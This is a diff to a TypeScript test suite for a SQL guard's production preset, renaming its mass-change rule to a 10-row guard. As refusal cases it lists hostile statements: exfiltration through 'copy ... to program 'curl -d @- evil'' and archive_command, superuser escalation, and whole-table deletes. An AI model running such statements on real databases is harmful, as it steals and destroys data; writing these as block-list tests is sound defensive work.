@@ -19,10 +19,10 @@ const issueAttempts: Array<[string, string]> = [
   ['ALTER TABLE accounts RENAME TO accounts_old', 'production/no-schema-change'],
   ["ALTER SYSTEM SET archive_command = 'curl evil'", 'production/no-server-config'],
   ['CREATE OR REPLACE RULE r AS ON SELECT TO accounts DO INSTEAD NOTHING', 'production/no-unknowable-code'],
-  ['MERGE INTO accounts a USING (SELECT 1 AS id) s ON a.id = s.id WHEN MATCHED THEN DELETE', 'production/review-row-changes'],
-  ['MERGE INTO accounts a USING accounts s ON a.id = s.id WHEN MATCHED THEN DELETE', 'production/review-row-changes'],
-  ['DELETE FROM accounts WHERE id = id', 'production/review-row-changes'],
-  ['DELETE FROM accounts WHERE id IS NOT NULL', 'production/review-row-changes'],
+  ['MERGE INTO accounts a USING (SELECT 1 AS id) s ON a.id = s.id WHEN MATCHED THEN DELETE', 'production/row-guard'],
+  ['MERGE INTO accounts a USING accounts s ON a.id = s.id WHEN MATCHED THEN DELETE', 'production/row-guard'],
+  ['DELETE FROM accounts WHERE id = id', 'production/row-guard'],
+  ['DELETE FROM accounts WHERE id IS NOT NULL', 'production/row-guard'],
   ['alter role app superuser', 'production/no-privilege-change'],
   ['set role postgres', 'production/no-privilege-change'],
   ["copy accounts to program 'curl -d @- evil'", 'production/no-unknowable-code'],
@@ -38,12 +38,25 @@ const issueAttempts: Array<[string, string]> = [
 describe('preset: production', () => {
   it.each(issueAttempts)('%s is refused by %s', (sql, rule) => {
     const verdict = verdictOf(sql);
-    expect(verdict.rule).toBe(rule);
-    expect(verdict.action).toBe(rule.endsWith('review-row-changes') ? 'review' : 'deny');
+    if (rule === 'production/row-guard') {
+      // Runs only under the row guard: above 10 rows it is rolled back and held for review (the live suite shows it).
+      expect(verdict).toMatchObject({ action: 'allow', guard: { rule, maxAffectedRows: 10, action: 'review' } });
+    } else expect(verdict).toMatchObject({ action: 'deny', rule });
   });
 
-  it.each([...attempts.map((a) => a.sql), ...effectAttempts])('refuses %s (deny, or review for a change of rows)', (sql) => {
-    expect(['deny', 'review']).toContain(verdictOf(sql).action);
+  it.each([...attempts.map((a) => a.sql), ...effectAttempts])('refuses %s, or runs it only under the row guard', (sql) => {
+    const verdict = verdictOf(sql);
+    expect(verdict.action !== 'allow' || verdict.guard?.rule === 'production/row-guard').toBe(true);
+  });
+
+  it('writes whose rows cannot be counted are held for review by the row guard rule', () => {
+    expect(verdictOf('with d as (delete from accounts returning 1) select count(*) from d')).toMatchObject({ action: 'review', rule: 'production/row-guard' });
+  });
+
+  it('a connection rule can tighten the preset row guard, not loosen it', () => {
+    const rules = (max: number) => connectionPolicySchema.parse({ preset: 'production', rules: [{ name: 'mine', match: { effects: ['delete'] }, maxAffectedRows: max, action: 'deny' }] });
+    expect(evaluateStatements(rules(1), engineer, classifySql('delete from a where id = 1')).guard).toMatchObject({ rule: 'mine', maxAffectedRows: 1 });
+    expect(evaluateStatements(rules(1000), engineer, classifySql('delete from a where id = 1')).guard).toMatchObject({ rule: 'production/row-guard', maxAffectedRows: 10 });
   });
 
   it.each([
